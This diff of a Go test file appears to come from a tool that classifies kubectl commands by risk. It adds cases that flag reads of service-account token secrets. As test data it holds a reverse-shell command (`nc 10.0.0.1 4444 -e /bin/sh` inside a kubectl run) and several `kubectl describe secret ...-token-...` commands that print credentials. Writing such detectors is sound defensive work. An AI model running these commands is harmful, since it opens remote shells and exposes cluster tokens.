@@ -365,3 +365,26 @@ func TestWorkloadCommandServed(t *testing.T) {
 	explainRow(t, `kubectl run revshell --image=alpine -- sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration, "workloadCommandServed",
 		[]string{"kubectl", "run", "--", "sh", "-c", "nc 10.0.0.1 4444 -e /bin/sh"})
 }
+
+// TestTokenSecretDescribed: kubectl describe prints a service-account
+// token secret's token in full (the Kubernetes docs' "Manually create an
+// API token for a ServiceAccount": describe shows "token: …"), while other
+// secrets show only their sizes. A secret named for its token (the
+// <account>-token-<suffix> names Kubernetes generated before 1.24) is
+// secret-read; describing other secrets and listing them stay everyday.
+func TestTokenSecretDescribed(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{"kubectl -n kubernetes-dashboard describe secret admin-user-token-abcde", SecretRead},
+		{"kubectl describe secret default-token-xyz -n kube-system", SecretRead},
+		{"kubectl describe secrets/build-robot-token", SecretRead},
+		{"oc describe secret builder-token-7x2kq", SecretRead},
+		{"kubectl describe secret mysecret", ""},
+		{"kubectl describe secret db-credentials -n prod", ""},
+		{"kubectl get secrets -n kube-system", ""},
+		{"kubectl describe sa build-robot", ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
